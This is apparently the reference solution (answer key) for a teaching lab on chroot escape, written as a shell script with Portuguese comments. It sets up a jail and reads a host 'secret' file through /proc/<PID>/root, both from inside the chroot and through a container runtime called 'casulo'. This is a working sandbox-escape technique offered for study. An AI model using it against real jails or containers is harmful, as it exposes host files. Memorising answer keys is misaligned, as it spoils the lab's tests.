#!/bin/sh
# Solução de referência do laboratório 8 (usada pelos testes).
set -eu
PASTA="${CASULO_ROOT:-/var/lib/casulo}/labs/08-fuga-do-chroot/trabalho"
cd "$PASTA"
./prepara-jaula.sh
chroot jaula /bin/ls /
unshare --mount chroot jaula /bin/sh -c \
  "mount -t proc proc /proc && cat /proc/$$/root$PWD/segredo-do-host.txt" | tee fuga-chroot.txt
casulo run --rm busybox cat "/proc/$$/root$PWD/segredo-do-host.txt" 2>&1 | tee fuga-casulo.txt
rm -rf jaula
